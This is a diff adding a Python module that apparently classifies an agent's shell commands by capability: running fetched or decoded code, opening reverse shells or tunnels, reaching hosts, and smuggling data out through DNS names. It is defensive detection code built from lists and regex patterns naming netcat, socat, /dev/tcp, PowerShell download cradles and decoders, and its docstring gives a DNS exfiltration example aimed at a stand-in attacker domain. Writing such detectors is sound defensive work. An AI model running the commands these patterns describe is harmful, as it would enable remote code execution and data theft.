@@ -1,0 +1,248 @@
+"""What parsed shell commands let an agent do, by capability class.
+
+Each rule reads a command's structure: which program runs, what feeds its input (the
+pipeline), what is substituted into it, where it writes. A class is decided by that shape,
+not by a list of known payloads: any fetcher or decoder feeding any interpreter runs
+fetched code, whatever the wrapping."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Sequence
+
+from skillopt_sleep.firewall.shell import Command, base, unwrap
+
+REACH_HOST = "reach_host"
+RUN_FETCHED = "run_fetched_code"
+OPEN_SHELL = "open_shell"
+PERSIST = "persist"
+READ_CREDENTIALS = "read_credentials"
+BYPASS_CHECK = "bypass_check"
+
+Found = tuple[str, str]
+"""``(class, target)``."""
+
+_SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "mksh", "cmd"}
+_INTERPRETERS = _SHELLS | {"perl", "ruby", "node", "nodejs", "deno", "bun", "php", "pwsh",
+                           "powershell", "lua", "osascript", "tclsh", "rscript", "iex",
+                           "invoke-expression", "source", ".", "eval"}
+_FETCHERS = {"curl", "wget", "fetch", "iwr", "invoke-webrequest", "irm", "invoke-restmethod",
+             "aria2c", "http", "https", "xh", "lwp-download", "lynx", "ftp", "tftp"}
+_DECODERS = {"base64", "b64", "xxd", "openssl", "gunzip", "zcat", "bzcat", "xzcat", "rev",
+             "uudecode", "base32", "basenc", "gzip", "tr"}
+_NET = {"nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp"}
+_SCRIPT = re.compile(r"[/$]|\.(?:sh|bash|zsh|py|pl|rb|js|mjs|cjs|ts|php|ps1|lua)$|^<\(")
+_INLINE = {"-c", "-e", "-r", "-command", "-enc", "-encodedcommand", "-ec", "-m", "--eval",
+           "-p", "--print", "-x", "-i", "-ic"}
+_ENCODED_PS = re.compile(r"^-(?:e|ec|en|enc|enco|encod|encode|encoded|encodedc\w*)$", re.I)
+_DECODE_IN_CODE = re.compile(
+    r"b64decode|base64|frombase64string|decode\(|fromcharcode|atob\(|unhexlify|bytes\.fromhex"
+    r"|zlib|marshal\.loads|codecs\.decode|rot.?13|\\x[0-9a-f]{2}|pack\(|urlopen|urllib|requests"
+    r"|\bhttp|downloadstring|webclient|invoke-webrequest|\biwr\b|\birm\b|fetch\(", re.I)
+_RUN_IN_CODE = re.compile(r"\b(?:exec|eval|iex|invoke-expression|system|function|spawn"
+                          r"|popen|subprocess|compile)\b", re.I)
+_SOCKET_IN_CODE = re.compile(r"socket|fsockopen|tcpsocket|tcpclient|net\.sockets|/dev/tcp", re.I)
+_SHELL_IN_CODE = re.compile(r"dup2|pty\.spawn|/bin/\w*sh|cmd\.exe|subprocess|popen|exec|system"
+                            r"|spawn|getstream|iex", re.I)
+
+
+_VERSIONED = re.compile(r"(?:python|pypy|perl|ruby|php)[0-9.]*")
+
+
+def _is_interpreter(cmd: Command) -> bool:
+    return base(cmd.program) in _INTERPRETERS or bool(_VERSIONED.fullmatch(base(cmd.program)))
+
+
+def _runs_stdin(cmd: Command) -> bool:
+    """Does this interpreter run what its standard input brings? (``python3 -m json.tool``
+    and ``python3 -c '…'`` read it as data.)"""
+    if base(cmd.program) in ("iex", "invoke-expression", "source", ".", "eval"):
+        return True
+    for arg in cmd.args:
+        low = arg.lower()
+        if low in ("-", "/dev/stdin", "-s"):
+            return True
+        if low in _INLINE or low.startswith("--"):
+            return False
+        if not low.startswith("-"):
+            return not _SCRIPT.search(arg)
+    return True
+
+
+def _is_fetcher(cmd: Command) -> bool:
+    prog = base(cmd.program)
+    if prog in _FETCHERS:
+        return True
+    if prog in ("nc", "ncat", "netcat", "socat", "telnet"):
+        return True
+    return prog == "git" and cmd.args[:1] == ("show",) and any("://" in a for a in cmd.args)
+
+
+def _is_decoder(cmd: Command) -> bool:
+    prog, args = base(cmd.program), [a.lower() for a in cmd.args]
+    if prog in ("base64", "b64", "base32", "basenc"):
+        return any(a in ("-d", "--decode", "-D", "-di") or a.startswith("-d") for a in args)
+    if prog == "xxd":
+        return "-r" in args or "-rp" in args
+    if prog == "openssl":
+        return "-d" in args or "-base64" in args or "base64" in args
+    if prog in ("gzip", "tr", "rev"):
+        return prog != "gzip" or "-d" in args
+    return prog in _DECODERS
+
+
+def _target(cmds: Sequence[Command]) -> str:
+    """What a fetch or decode reaches: the first URL or host among its words."""
+    for cmd in cmds:
+        for word in cmd.args:
+            m = re.search(r"[a-z][\w+.-]*://([^/\s'\"]+)", word, re.I)
+            if m:
+                return m.group(1).lower()
+    return "decoded content" if any(_is_decoder(c) for c in cmds) else "fetched content"
+
+
+def run_fetched(cmds: Sequence[Command]) -> Iterator[Found]:
+    """Fetched or decoded content run by any interpreter: piped, substituted, staged in a
+    file, or carried inline as encoded code."""
+    fetched_files: set[str] = set()
+    for cmd in cmds:
+        feeders = [c for c in cmd.upstream if _is_fetcher(c) or _is_decoder(c)]
+        if feeders and _is_interpreter(cmd) and _runs_stdin(cmd):
+            yield RUN_FETCHED, _target(feeders)
+        subs = [c for c in cmd.inner if _is_fetcher(c) or _is_decoder(c)]
+        if subs and (_is_interpreter(cmd) or base(cmd.program) in ("eval", "exec")):
+            yield RUN_FETCHED, _target(subs)
+        if _is_fetcher(cmd) and any("://" in a for a in cmd.args):
+            fetched_files.update(_outputs(cmd) or {"*"})
+        elif fetched_files and _runs_file(cmd, fetched_files):
+            yield RUN_FETCHED, _target([c for c in cmds if _is_fetcher(c)])
+        yield from _inline_code(cmd)
+    yield from _powershell_cradle(cmds)
+
+
+_PS_RUN = {"iex", "invoke-expression"}
+_PS_FETCH = re.compile(r"invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|downloadstring"
+                       r"|downloadfile|net\.webclient|start-bitstransfer", re.I)
+
+
+def _powershell_cradle(cmds: Sequence[Command]) -> Iterator[Found]:
+    """``IEX (iwr …).Content``: PowerShell runs what a fetch returns, however bracketed."""
+    words = [w.strip("()'\";").lower() for c in cmds for w in c.words]
+    if _PS_RUN & set(words) and any(_PS_FETCH.search(w) for w in words):
+        hosts = [re.search(r"://([^/\s'\")]+)", w) for w in words]
+        yield RUN_FETCHED, next((h.group(1) for h in hosts if h), "fetched content")
+
+
+def _outputs(cmd: Command) -> set[str]:
+    names = {t for op, t in cmd.redirects if ">" in op}
+    args = list(cmd.args)
+    for i, arg in enumerate(args[:-1]):
+        if arg in ("-o", "-O", "--output", "--output-document", "-OutFile", "-outfile"):
+            names.add(args[i + 1])
+    if any(a in ("-O", "-LO", "-fsSLO", "--remote-name") for a in args):
+        names.update(a.rsplit("/", 1)[-1] for a in args if "://" in a)
+    return {n.lstrip("./") for n in names}
+
+
+def _runs_file(cmd: Command, files: set[str]) -> bool:
+    """Does ``cmd`` run a downloaded file, or a local script once something was downloaded
+    (an archive unpacked, then ``./x/install.sh``)?"""
+    words = unwrap(cmd.words)
+    if not words:
+        return False
+    names = [w.lstrip("./") for w in words]
+    local = words[0].startswith("./") or (_is_interpreter(cmd) and any(
+        _SCRIPT.search(w) and not w.startswith("/") for w in words[1:]))
+    return names[0] in files or local or (_is_interpreter(cmd) and any(
+        n in files for n in names[1:]))
+
+
+def _inline_code(cmd: Command) -> Iterator[Found]:
+    prog, args = base(cmd.program), cmd.args
+    if prog in ("powershell", "pwsh", "powershell_ise") and any(
+            _ENCODED_PS.match(a) for a in args):
+        yield RUN_FETCHED, "encoded command"
+        return
+    code = " ".join(args)
+    if not (_is_interpreter(cmd) or prog in ("powershell", "pwsh")):
+        return
+    if _RUN_IN_CODE.search(code) and _DECODE_IN_CODE.search(code):
+        host = re.search(r"[a-z][\w+.-]*://([^/\s'\"]+)", code, re.I)
+        yield RUN_FETCHED, host.group(1).lower() if host else "decoded content"
+
+
+def open_shell(cmds: Sequence[Command]) -> Iterator[Found]:
+    """A shell wired to the network (reverse or bind) or a listener anyone may connect to."""
+    for cmd in cmds:
+        target = _shell_or_listener(cmd, cmds)
+        if target:
+            yield OPEN_SHELL, target
+
+
+_LISTEN = re.compile(r"-\w*[lec]\w*|--(?:listen|exec|sh-exec|lua-exec)")
+
+
+def _shell_or_listener(cmd: Command, cmds: Sequence[Command]) -> str:
+    prog, args = base(cmd.program), [a.lower() for a in cmd.args]
+    words = " ".join([*args, *(t for _, t in cmd.redirects)])
+    if "/dev/tcp/" in words or "/dev/udp/" in words or (
+            prog in ("nc", "ncat", "netcat") and any(_LISTEN.fullmatch(a) for a in args)) or (
+            prog == "socat" and re.search(r"tcp\d?-listen|exec:|system:|pty", words)):
+        return _port(words)
+    if prog in ("ngrok", "cloudflared", "bore", "localtunnel", "lt") and args:
+        return f"{prog} tunnel"
+    if prog == "ssh" and any(a.startswith("-R") for a in cmd.args):
+        return "ssh remote forward"
+    coded = _is_interpreter(cmd) or prog in ("powershell", "pwsh")
+    if coded and _SOCKET_IN_CODE.search(words) and _SHELL_IN_CODE.search(words):
+        return _port(words)
+    if prog in _SHELLS and _networked(cmd, cmds):
+        return "network to shell"
+    return ""
+
+
+_LOOKUPS = {"dig", "nslookup", "host", "ping", "ping6", "drill", "resolvectl", "getent",
+            "traceroute", "resolve-dnsname", "test-connection"}
+_SMUGGLED = re.compile(r"(?:\$\(|`|\$\{?\w).*?[)}`\w]\.((?:[a-z0-9-]+\.)+[a-z]{2,})\.?$", re.I)
+
+
+_HOSTLIKE = re.compile(r"^(?:[\w.-]+@)?((?:\d{1,3}\.){3}\d{1,3}|(?:[a-z0-9-]+\.)+[a-z]{2,})"
+                       r"(?::[\w/.~-]*)?$", re.I)
+
+
+def reached(cmds: Sequence[Command]) -> Iterator[Found]:
+    """Hosts a network command is pointed at, whatever their top-level domain."""
+    for cmd in cmds:
+        if base(cmd.program) not in _LOOKUPS | _NET:
+            continue
+        for word in cmd.args:
+            m = _HOSTLIKE.match(word)
+            if m and not word.startswith("-") and not re.search(
+                    r"\.(?:sh|py|txt|json|ya?ml|log|pem|key|pub|tgz|gz|zip|tar)$", word, re.I):
+                host = m.group(1).lower()
+                if host not in ("localhost", "127.0.0.1", "0.0.0.0") and not host.endswith(
+                        (".local", ".test", ".internal", ".example", ".localhost")):
+                    yield REACH_HOST, host
+
+
+def smuggled(cmds: Sequence[Command]) -> Iterator[Found]:
+    """Data carried out in a name a network command resolves: ``dig $(whoami).evil.io``."""
+    for cmd in cmds:
+        if base(cmd.program) not in _LOOKUPS | _FETCHERS | _NET:
+            continue
+        for word in cmd.args:
+            m = _SMUGGLED.search(word.split("://", 1)[-1].split("/", 1)[0])
+            if m:
+                yield REACH_HOST, f"{m.group(1).lower()} (carrying data)"
+
+
+def _networked(shell: Command, cmds: Sequence[Command]) -> bool:
+    """Is a shell's input or output wired to a network client in the same pipeline?"""
+    net = ("nc", "ncat", "netcat", "telnet", "socat")
+    return any(base(c.program) in net for c in shell.upstream) or any(
+        shell in c.upstream and base(c.program) in net for c in cmds)
+
+
+def _port(words: str) -> str:
+    m = re.search(r"(?:/dev/(?:tcp|udp)/|:|\s|-p\s*|listen:)(\d{2,5})\b", words)
+    return f"port {m.group(1)}" if m else "a network port"
